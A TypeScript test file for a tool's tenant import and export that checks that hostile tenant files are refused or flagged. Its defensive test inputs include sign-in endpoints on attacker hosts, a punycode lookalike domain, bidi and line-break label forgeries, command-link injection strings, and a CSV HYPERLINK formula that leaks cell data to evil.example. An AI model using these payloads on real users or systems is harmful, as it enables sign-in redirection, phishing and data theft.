import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { readTenantFile, writeTenantFile } from '../../src/config/tenantFile';
import { csvCell, parseCsv } from '../../src/csv';
import { hasInvisibleOrControl } from '../../src/text';
import { rawFromEntry, TenantEntry, tenantKey } from '../../src/config/tenants';
import { exportTenants, importTenants } from '../../src/commands/tenants/tenantFiles';
import { actionContext } from '../support/fakeAccount';
import { Answer, ScriptedUserInput } from '../support/scriptedUserInput';

const APP = 'aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee';
const HEADER = 'label,tenantId,clientId,cloud,authMode,graphEndpoint,loginEndpoint,sharedCredential';

function csvFile(lines: string[], name = 'tenants.csv'): Answer {
  const text = [HEADER, ...lines].join('\r\n');
  return { file: { name, size: text.length, text } };
}

describe('tenant files', () => {
  it('reads CSV with quotes, commas and line breaks in cells', () => {
    assert.deepEqual(parseCsv('a,"b, c","say ""hi""\nthere"\r\n1,2,3'), [
      ['a', 'b, c', 'say "hi"\nthere'],
      ['1', '2', '3'],
    ]);
  });

  it('a good file: every row becomes an entry, defaults filled in', () => {
    const { entries, refused } = readTenantFile(
      [
        HEADER,
        `Contoso,contoso.onmicrosoft.com,${APP},,,,`,
        `"Fabrikam, Inc.",11111111-2222-3333-4444-555555555555,${APP},usGov,deviceCode,,`,
      ].join('\n'),
      'tenants.csv',
      [],
    );
    assert.deepEqual(refused, []);
    assert.deepEqual(entries, [
      { label: 'Contoso', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'contoso.onmicrosoft.com' },
      { label: 'Fabrikam, Inc.', cloud: 'usGov', authMode: 'deviceCode', clientId: APP, tenantId: '11111111-2222-3333-4444-555555555555' },
    ]);
  });

  it('a mixed file: each bad row is named with why, and the good ones are kept', () => {
    const existing = { label: 'Already', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'already.example.com' };
    const { entries, refused } = readTenantFile(
      [
        HEADER,
        `Good,good.example.com,${APP},global,clientCredentials,,`,
        `Moon,moon.example.com,${APP},moon,vscode,,`,
        `Plain,plain.example.com,${APP},custom,vscode,http://graph.example.com,https://login.example.com`,
        `Already,already.example.com,${APP},global,vscode,,`,
        `Good again,good.example.com,${APP},global,clientCredentials,,`,
        `Bad app,bad.example.com,not-a-guid,global,vscode,,`,
        `Odd mode,odd.example.com,${APP},global,password,,`,
        `Shared delegated,shared.example.com,${APP},global,vscode,,,true`,
        '',
      ].join('\n'),
      'tenants.csv',
      [tenantKey(rawFromEntry(existing, undefined))],
    );
    assert.deepEqual(
      entries.map((entry) => entry.label),
      ['Good'],
    );
    assert.deepEqual(
      refused.map((row) => [row.row, row.label, row.reason.replace(/ \(.*\)$/, '')]),
      [
        [3, 'Moon', 'unknown cloud "moon"'],
        [
          4,
          'Plain',
          'The setting graphEndpoint must be an https address; http://graph.example.com was refused so that tokens never travel unencrypted.',
        ],
        [5, 'Already', 'a duplicate: the view already shows this tenant with this app and sign-in mode'],
        [6, 'Good again', 'a duplicate: the view already shows this tenant with this app and sign-in mode'],
        [7, 'Bad app', 'the client id "not-a-guid" is not an application (client) ID'],
        [8, 'Odd mode', 'unknown sign-in mode "password"'],
        [9, 'Shared delegated', 'a shared credential is for app-only sign-in'],
      ],
    );
  });

  it('refuses a tenant that is neither a directory ID nor a domain, and endpoints for a cloud other than custom', () => {
    const { entries, refused } = readTenantFile(
      [
        HEADER,
        `Spaces,contoso tenant,${APP},global,vscode,,`,
        `Link,https://contoso.example.com,${APP},global,vscode,,`,
        `Short id,11111111-2222-3333-4444,${APP},global,vscode,,`,
        `Prefixed id,x11111111-2222-3333-4444-555555555555,${APP},global,vscode,,`,
        `Suffixed id,11111111-2222-3333-4444-555555555555x,${APP},global,vscode,,`,
        `Too long,${Array.from({ length: 5 }, () => 'a'.repeat(60)).join('.')}.com,${APP},global,vscode,,`,
        `Global with graph,steer.example.com,${APP},global,vscode,https://graph.attacker.example,`,
        `Gov with login,gov.example.com,${APP},usGov,vscode,,https://login.attacker.example`,
        `Custom,custom.example.com,${APP},custom,vscode,https://graph.example.com,https://login.example.com`,
        `Domain,contoso.onmicrosoft.com,${APP},global,vscode,,`,
      ].join('\n'),
      'tenants.csv',
      [],
    );
    assert.deepEqual(
      refused.map((row) => [row.row, row.label, row.reason]),
      [
        [2, 'Spaces', 'the tenant "contoso tenant" is neither a directory (tenant) ID nor a domain'],
        [3, 'Link', 'the tenant "https://contoso.example.com" is neither a directory (tenant) ID nor a domain'],
        [4, 'Short id', 'the tenant "11111111-2222-3333-4444" is neither a directory (tenant) ID nor a domain'],
        [5, 'Prefixed id', 'the tenant "x11111111-2222-3333-4444-555555555555" is neither a directory (tenant) ID nor a domain'],
        [6, 'Suffixed id', 'the tenant "11111111-2222-3333-4444-555555555555x" is neither a directory (tenant) ID nor a domain'],
        [
          7,
          'Too long',
          `the tenant "${Array.from({ length: 5 }, () => 'a'.repeat(60)).join('.')}.com" is neither a directory (tenant) ID nor a domain`,
        ],
        [8, 'Global with graph', 'endpoints are only for the cloud "custom"'],
        [9, 'Gov with login', 'endpoints are only for the cloud "custom"'],
      ],
    );
    assert.deepEqual(
      entries.map((entry) => entry.label),
      ['Custom', 'Domain'],
    );
  });

  it('CSV: a leading byte-order mark is dropped (only there), and CR, LF and CRLF each end a row', () => {
    assert.deepEqual(parseCsv('\uFEFFa,b\nc\uFEFF,d'), [
      ['a', 'b'],
      ['c\uFEFF', 'd'],
    ]);
    assert.deepEqual(parseCsv('a\rb\nc\r\nd'), [['a'], ['b'], ['c'], ['d']]);
    assert.deepEqual(parseCsv('a\n'), [['a']], 'a final line break adds no row');
    assert.deepEqual(parseCsv('a,'), [['a', '']], 'a last empty cell is kept');
    assert.deepEqual(parseCsv(''), []);
  });

  it('CSV header: names in any case and spacing; without tenantId or clientId the file is refused, naming the columns', () => {
    const { entries } = readTenantFile(` TENANTID , ClientId \n contoso.example.com , ${APP} `, 'tenants.csv', []);
    assert.deepEqual(entries, [
      { label: 'contoso.example.com', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'contoso.example.com' },
    ]);
    for (const header of ['label,tenantId', 'label,clientId']) {
      assert.throws(
        () => readTenantFile(`${header}\nx,y`, 'tenants.csv', []),
        /^Error: The first line must name the columns: label,tenantId,clientId,cloud,authMode,graphEndpoint,loginEndpoint,sharedCredential\.$/,
      );
    }
  });

  it('CSV rows are numbered as lines of the file, blank lines skipped', () => {
    const { refused } = readTenantFile([HEADER, '', `Bad,bad.example.com,not-a-guid,,,,`, ' , ,'].join('\n'), 'tenants.csv', []);
    assert.deepEqual(
      refused.map((row) => [row.row, row.label]),
      [[3, 'Bad']],
    );
  });

  it('JSON is recognized by its name (any case) or by a leading [; a .json.csv name is CSV', () => {
    const json = JSON.stringify([{ tenantId: 'contoso.example.com', clientId: APP }]);
    for (const [text, name] of [
      [json, 'tenants.JSON'],
      [`  \n${json}`, 'tenants.txt'],
    ]) {
      assert.equal(readTenantFile(text, name, []).entries.length, 1, name);
    }
    const csv = [HEADER, `Contoso,contoso.example.com,${APP},,,,`].join('\n');
    assert.equal(readTenantFile(csv, 'tenants.json.csv', []).entries.length, 1);
  });

  it('JSON rows are numbered from 1, and an element that is not an object is refused by its row number', () => {
    const { refused } = readTenantFile(JSON.stringify([7, null, ['a'], { tenantId: 'x', clientId: 'y' }]), 'tenants.json', []);
    assert.deepEqual(
      refused.map((row) => [row.row, row.label]),
      [
        [1, 'row 1'],
        [2, 'row 2'],
        [3, 'row 3'],
        [4, 'x'],
      ],
    );
  });

  it('the reasons name what is allowed, and which endpoint is wrong', () => {
    const { refused } = readTenantFile(
      [
        HEADER,
        `Moon,moon.example.com,${APP},moon,vscode,,`,
        `Odd,odd.example.com,${APP},global,password,,`,
        `Login,login.example.com,${APP},custom,vscode,https://graph.example.com,http://login.example.com`,
      ].join('\n'),
      'tenants.csv',
      [],
    );
    assert.deepEqual(
      refused.map((row) => row.reason),
      [
        'unknown cloud "moon" (use one of global, usGov, usGovDoD, china, custom)',
        'unknown sign-in mode "password" (use one of vscode, deviceCode, clientCredentials)',
        'The setting loginEndpoint must be an https address; http://login.example.com was refused so that tokens never travel unencrypted.',
      ],
    );
  });

  it('sharedCredential is true only for "true" in any case; endpoints lose their trailing slashes', () => {
    const rows = ['TRUE', 'untrue', 'true!'].map(
      (value, index) =>
        `S${index},s${index}.example.com,${APP},custom,clientCredentials,https://graph.example.com//,https://login.example.com/,${value}`,
    );
    const { entries } = readTenantFile([HEADER, ...rows].join('\n'), 'tenants.csv', []);
    assert.deepEqual(
      entries.map((entry) => [entry.label, entry.sharedCredential ?? false, entry.graphEndpoint, entry.loginEndpoint]),
      [
        ['S0', true, 'https://graph.example.com', 'https://login.example.com'],
        ['S1', false, 'https://graph.example.com', 'https://login.example.com'],
        ['S2', false, 'https://graph.example.com', 'https://login.example.com'],
      ],
    );
  });

  it('Export quotes a CSV cell only when it must, and writes JSON without empty cells', () => {
    const entries = [
      { label: 'Plain', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'plain.example.com' },
      {
        label: 'Say "hi", then',
        cloud: 'global',
        authMode: 'clientCredentials',
        clientId: APP,
        tenantId: 'q.example.com',
        sharedCredential: true,
      },
    ];
    const csv = writeTenantFile(entries, 'tenants.csv');
    assert.equal(
      csv,
      `${HEADER}\r\nPlain,plain.example.com,${APP},global,vscode,,,\r\n"Say ""hi"", then",q.example.com,${APP},global,clientCredentials,,,true\r\n`,
    );
    assert.deepEqual(JSON.parse(writeTenantFile(entries, 'tenants.json')), [
      { label: 'Plain', tenantId: 'plain.example.com', clientId: APP, cloud: 'global', authMode: 'vscode' },
      {
        label: 'Say "hi", then',
        tenantId: 'q.example.com',
        clientId: APP,
        cloud: 'global',
        authMode: 'clientCredentials',
        sharedCredential: true,
      },
    ]);
  });

  it('a byte-order mark inside the text is kept; a short row is read with its missing cells empty', () => {
    assert.deepEqual(parseCsv('a\uFEFF,b'), [['a\uFEFF', 'b']]);
    const { entries, refused } = readTenantFile([HEADER, `Short,short.example.com,${APP}`].join('\n'), 'tenants.csv', []);
    assert.deepEqual(refused, []);
    assert.deepEqual(entries, [{ label: 'Short', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'short.example.com' }]);
  });

  it('a domain may have one-letter labels, and must end with its top-level label', () => {
    const { entries, refused } = readTenantFile(
      [HEADER, `One letter,x.example.com,${APP},,,,`, `Trailing,contoso.example.com-x,${APP},,,,`].join('\n'),
      'tenants.csv',
      [],
    );
    assert.deepEqual(
      entries.map((entry) => entry.label),
      ['One letter'],
    );
    assert.deepEqual(
      refused.map((row) => row.label),
      ['Trailing'],
    );
  });

  it('Export writes JSON only for a name ending in .json', () => {
    const entries = [{ label: 'Plain', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'plain.example.com' }];
    assert.ok(writeTenantFile(entries, 'tenants.json.csv').startsWith(`${HEADER}\r\n`));
    assert.ok(writeTenantFile(entries, 'tenants.JSON').startsWith('['));
  });

  it('JSON in, and what Export writes (CSV and JSON) reads back the same', () => {
    const tenants: TenantEntry[] = [
      { label: 'Contoso', cloud: 'global', authMode: 'vscode', clientId: APP, tenantId: 'contoso.example.com' },
      {
        label: 'Lab, "east"',
        cloud: 'custom',
        authMode: 'clientCredentials',
        clientId: APP,
        tenantId: 'lab.example.com',
        graphEndpoint: 'https://graph.lab.example',
        loginEndpoint: 'https://login.lab.example',
        sharedCredential: true,
      },
    ];
    for (const name of ['out.csv', 'out.json']) {
      const { entries, refused } = readTenantFile(writeTenantFile(tenants, name), name, []);
      assert.deepEqual(refused, [], name);
      assert.deepEqual(entries, tenants, name);
    }
    assert.throws(() => readTenantFile('{"label":"x"}', 'one.json', []), /must hold an array/);
    assert.throws(() => readTenantFile('name,id\nx,y', 'x.csv', []), /The first line must name the columns/);
  });

  it('Import Tenants…: the preview lists what is added and what is not; the valid rows are added after it', async () => {
    const added: TenantEntry[][] = [];
    const ui = new ScriptedUserInput([
      csvFile([`Good,good.example.com,${APP},global,vscode,,`, `Moon,moon.example.com,${APP},moon,vscode,,`]),
      { confirm: true },
    ]);
    await importTenants(actionContext(ui), { keys: () => [], addAll: async (entries) => void added.push([...entries]) });
    assert.equal(ui.of('confirm')[0].message, 'Add 1 tenant from "tenants.csv"?');
    assert.match(
      ui.of('confirm')[0].detail ?? '',
      new RegExp(
        `^To add \\(1\\):\\n• "Good" · global · vscode · client ${APP} · tenant good\\.example\\.com\\n\\nNot added \\(1\\):\\nRow 3 \\(Moon\\): unknown cloud "moon"`,
      ),
    );
    assert.deepEqual(
      added.map((batch) => batch.map((entry) => entry.label)),
      [['Good']],
    );
    assert.equal(ui.of('info')[0].message, 'Added 1 tenants; 1 rows were not added (see the preview).');
  });

  it('Import Tenants…: declined, unreadable or all-bad files write nothing and say why', async () => {
    const added: TenantEntry[][] = [];
    const registry = { keys: () => [], addAll: async (entries: readonly TenantEntry[]) => void added.push([...entries]) };
    const declined = new ScriptedUserInput([csvFile([`Good,good.example.com,${APP},global,vscode,,`]), { confirm: false }]);
    await importTenants(actionContext(declined), registry);
    const allBad = new ScriptedUserInput([csvFile([`Moon,moon.example.com,${APP},moon,vscode,,`])]);
    await importTenants(actionContext(allBad), registry);
    assert.match(allBad.of('error')[0].message ?? '', /No tenant of "tenants.csv" can be added.\nRow 2 \(Moon\): unknown cloud/);
    const huge = new ScriptedUserInput([{ file: { name: 'big.csv', size: 5 * 1024 * 1024, text: 'x' } }]);
    await importTenants(actionContext(huge), registry);
    assert.match(huge.of('error')[0].message ?? '', /larger than 1 MB/);
    const broken = new ScriptedUserInput([{ file: { name: 't.json', size: 3, text: '[{' } }]);
    await importTenants(actionContext(broken), registry);
    assert.match(broken.of('error')[0].message ?? '', /could not be read: The file is not valid JSON/);
    assert.deepEqual(added, []);
  });

  it('Export Tenants… writes the tenants, without any credential, where the user chose', async () => {
    const ui = new ScriptedUserInput([{ text: '/tmp/t.json' }]);
    await exportTenants(actionContext(ui), [
      { label: 'Contoso', cloud: 'global', authMode: 'clientCredentials', clientId: APP, tenantId: 'contoso.example.com' },
    ]);
    assert.deepEqual(JSON.parse(ui.written.get('/tmp/t.json') ?? ''), [
      { label: 'Contoso', tenantId: 'contoso.example.com', clientId: APP, cloud: 'global', authMode: 'clientCredentials' },
    ]);
  });
});

describe('a tenant file from someone else cannot steer sign-in unseen', () => {
  it('the preview names, for each row, both hosts of a custom cloud and a shared credential, each with a warning', async () => {
    const ui = new ScriptedUserInput([
      csvFile([
        `Lab,lab.example.com,${APP},custom,deviceCode,https://graph.attacker.example,https://login.attacker.example:8443,`,
        `Shared,shared.example.com,${APP},custom,clientCredentials,https://10.0.0.7,https://xn--mcrosoft-i2a.com,true`,
        `Plain,plain.example.com,${APP},usGov,vscode,,,`,
      ]),
      { confirm: false },
    ]);
    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('declined') });
    const lines = (ui.of('confirm')[0].detail ?? '').split('\n');
    assert.deepEqual(lines, [
      'To add (3):',
      `• "Lab" · custom · deviceCode · client ${APP} · tenant lab.example.com`,
      '  ⚠ Custom cloud: signs in at login.attacker.example:8443 and reads Graph at graph.attacker.example. Add it only if you know these servers.',
      `• "Shared" · custom · clientCredentials · client ${APP} · tenant shared.example.com`,
      '  ⚠ Custom cloud: signs in at xn--mcrosoft-i2a.com (an internationalised name: check it letter by letter) and reads Graph at 10.0.0.7 (an IP address). Add it only if you know these servers.',
      `  ⚠ Uses the client secret or certificate stored for the app ${APP}, shared with its other tenants.`,
      `• "Plain" · usGov · vscode · client ${APP} · tenant plain.example.com`,
    ]);
  });

  it('a label with a line break, a bidi override or over 80 characters refuses its row, and cannot forge a preview line', async () => {
    const forged = 'Evil\nNot added (0):';
    const file = JSON.stringify([
      { label: forged, tenantId: 'a.example.com', clientId: APP },
      { label: 'Safe\u202etxt.exe', tenantId: 'b.example.com', clientId: APP },
      { label: 'x'.repeat(81), tenantId: 'c.example.com', clientId: APP },
      { label: 'Tagged\u{E0041}', tenantId: 'd.example.com', clientId: APP },
      { label: 'Good', tenantId: 'e.example.com', clientId: APP },
    ]);
    const { entries, refused } = readTenantFile(file, 'tenants.json', []);
    assert.deepEqual(
      entries.map((entry) => entry.label),
      ['Good'],
    );
    assert.deepEqual(
      refused.map((row) => [row.row, row.label, row.reason]),
      [
        [1, 'Evil Not added (0):', 'The name holds a line break, a control character or an invisible one: type it again without them.'],
        [2, 'Safe txt.exe', 'The name holds a line break, a control character or an invisible one: type it again without them.'],
        [3, `${'x'.repeat(39)}…`, 'Enter a name of 1 to 80 characters.'],
        [4, 'Tagged', 'The name holds a line break, a control character or an invisible one: type it again without them.'],
      ],
    );
    const ui = new ScriptedUserInput([{ file: { name: 'tenants.json', size: file.length, text: file } }, { confirm: false }]);
    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('declined') });
    const detail = ui.of('confirm')[0].detail ?? '';
    assert.equal(detail.split('\n').filter((line) => line.startsWith('Not added')).length, 1, 'only the real "Not added" line');
  });

  it('every tenant that signs in at a custom cloud or with a shared credential is listed with its warning, however long the file', async () => {
    const harmless = Array.from({ length: 30 }, (_, index) => `Plain ${index},p${index}.example.com,${APP},global,vscode,,,`);
    const hidden = `Hidden,h.example.com,${APP},custom,clientCredentials,https://graph.evil.example,https://login.evil.example,true`;
    const ui = new ScriptedUserInput([csvFile([...harmless, hidden]), { confirm: false }]);
    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('declined') });
    const lines = (ui.of('confirm')[0].detail ?? '').split('\n');
    assert.deepEqual(lines.slice(0, 4), [
      'To add (31):',
      `• "Hidden" · custom · clientCredentials · client ${APP} · tenant h.example.com`,
      '  ⚠ Custom cloud: signs in at login.evil.example and reads Graph at graph.evil.example. Add it only if you know these servers.',
      `  ⚠ Uses the client secret or certificate stored for the app ${APP}, shared with its other tenants.`,
    ]);
    assert.equal(lines.filter((line) => line.startsWith('• "Plain ')).length, 25);
    assert.equal(lines.at(-1), '… and 5 more');
  });

  it('a file with more such tenants than a preview can show is refused, saying how to split it, and adds nothing', async () => {
    const custom = Array.from(
      { length: 26 },
      (_, index) => `Lab ${index},l${index}.example.com,${APP},custom,deviceCode,https://graph.lab.example,https://login.lab.example,`,
    );
    const ui = new ScriptedUserInput([csvFile(custom)]);
    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('nothing is added') });
    assert.equal(
      ui.of('error')[0].message,
      'Nothing was added: "tenants.csv" holds 26 tenants that sign in at a custom cloud or use a shared credential, and a preview shows at most 25 of them, each with where it signs in. Split the file into files of at most 25 such tenants and import each.',
    );
    assert.deepEqual(ui.of('confirm'), []);
    const allShown = new ScriptedUserInput([csvFile(custom.slice(1)), { confirm: false }]);
    await importTenants(actionContext(allShown), { keys: () => [], addAll: async () => assert.fail('declined') });
    assert.equal((allShown.of('confirm')[0].detail ?? '').split('\n').filter((line) => line.includes('⚠ Custom cloud')).length, 25);
  });

  it("a row's values and the file's name are echoed as plain text: no link, no line of their own", async () => {
    const ui = new ScriptedUserInput([
      {
        file: {
          name: 'list](command:workbench.action.terminal.new)\nRow 9 (Fake): fine.csv',
          size: 1,
          text: [
            HEADER,
            `A,a.example.com,${APP},[Open the fix](command:intuneVpp.signOut),vscode,,,`,
            `B,b.example.com,${APP},"glo\nbal",vscode,,,`,
          ].join('\r\n'),
        },
      },
    ]);
    await importTenants(actionContext(ui), { keys: () => [], addAll: async () => assert.fail('nothing is added') });
    const message = ui.of('error')[0].message ?? '';
    assert.deepEqual(message.split('\n'), [
      'No tenant of "list] (command:workbench.action.terminal.new) Row 9 (Fake): fine.csv" can be added.',
      'Row 2 (A): unknown cloud "[Open the fix] (command:intuneVpp.signOut)" (use one of global, usGov, usGovDoD, china, custom)',
      'Row 3 (B): unknown cloud "glo bal" (use one of global, usGov, usGovDoD, china, custom)',
    ]);
    const broken = new ScriptedUserInput([{ file: { name: 'x](command:y).json', size: 3, text: '[{' } }]);
    await importTenants(actionContext(broken), { keys: () => [], addAll: async () => assert.fail('nothing is added') });
    assert.equal(broken.of('error')[0].message, 'The file "x] (command:y).json" could not be read: The file is not valid JSON.');
  });

  it('Export neutralises formula-like cells, and Import reads back exactly what was exported', () => {
    const labels = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1 Contoso', '-Fabrikam', '@home', "'quoted", "''twice", 'Plain'];
    const tenants: TenantEntry[] = labels.map((label, index) => ({
      label,
      cloud: 'global',
      authMode: 'vscode',
      clientId: APP,
      tenantId: `t${index}.example.com`,
    }));
    const csv = writeTenantFile(tenants, 'out.csv');
    const cells = parseCsv(csv)
      .slice(1)
      .map((row) => row[0]);
    assert.deepEqual(cells, [
      `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      "'+1 Contoso",
      "'-Fabrikam",
      "'@home",
      "''quoted",
      "'''twice",
      'Plain',
    ]);
    const { entries, refused } = readTenantFile(csv, 'out.csv', []);
    assert.deepEqual(refused, []);
    assert.deepEqual(entries, tenants);
    assert.equal(readTenantFile(`${HEADER}\n'hand written,x.example.com,${APP},,,,`, 'in.csv', []).entries[0].label, "'hand written");
    assert.equal(
      readTenantFile(`${HEADER}\nx=1,y.example.com,${APP},,,,`, 'in.csv', []).entries[0].label,
      'x=1',
      'only a leading quote is taken off',
    );
  });
});

describe('tenant files, any content', () => {
  const APP_IDS = fc.uuid();
  /** A label a person could type: any printable text up to 80 characters, quotes, commas and formula starts included. */
  const label = fc
    .string({
      unit: fc.oneof(
        fc.constantFrom('=', '+', '-', '@', "'", '"', ',', ';', ' ', '\u2019'),
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 1 }),
      ),
      minLength: 1,
      maxLength: 80,
    })
    .filter((text) => text.trim() === text && text.length > 0 && !hasInvisibleOrControl(text));
  const entry = fc.record(
    {
      label,
      cloud: fc.constantFrom('global', 'usGov', 'usGovDoD', 'china'),
      authMode: fc.constantFrom('vscode', 'deviceCode', 'clientCredentials'),
      clientId: APP_IDS,
      tenantId: fc.oneof(fc.uuid(), fc.domain()),
    },
    { noNullPrototype: true },
  );

  it('what Export writes, CSV or JSON, Import reads back the same, whatever the labels', () => {
    fc.assert(
      fc.property(
        fc.uniqueArray(entry, {
          maxLength: 5,
          selector: (tenant) => `${tenant.tenantId.toLowerCase()}|${tenant.clientId}|${tenant.authMode}`,
        }),
        (tenants) => {
          for (const name of ['t.csv', 't.json']) {
            const { entries, refused } = readTenantFile(writeTenantFile(tenants, name), name, []);
            assert.deepEqual(refused, [], name);
            assert.deepEqual(entries, tenants, name);
          }
        },
      ),
      { numRuns: 1_000 },
    );
  });

  it('any file is read, or refused as a whole with an Error; no value of it becomes a line, a link or a command', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.constantFrom('[x](command:y)', 'a\nb', '"', 'custom', 'global', 'https://login.evil.example', 'true'),
    );
    const csvText = fc
      .array(fc.array(cell, { maxLength: 9 }), { maxLength: 5 })
      .map((rows) => [HEADER, ...rows.map((row) => row.map(csvCell).join(','))].join('\r\n'));
    const jsonText = fc
      .array(
        fc.oneof(
          fc.dictionary(
            fc.constantFrom('label', 'tenantId', 'clientId', 'cloud', 'authMode', 'graphEndpoint', 'loginEndpoint', 'sharedCredential'),
            fc.oneof(cell, fc.anything()),
          ),
          fc.anything(),
        ),
      )
      .map((rows) => JSON.stringify(rows));
    fc.assert(
      fc.property(fc.oneof(csvText, jsonText, fc.string()), fc.constantFrom('t.csv', 't.json'), (text, name) => {
        let read;
        try {
          read = readTenantFile(text, name, []);
        } catch (error) {
          assert.ok(error instanceof Error && !(error instanceof TypeError) && !(error instanceof RangeError), String(error));
          return;
        }
        for (const row of read.refused) {
          for (const shown of [row.label, row.reason]) {
            assert.doesNotMatch(shown, /[\r\n\u2028\u2029]|\]\(|\$\(/, shown);
          }
        }
      }),
      { numRuns: 2_000 },
    );
  });
});
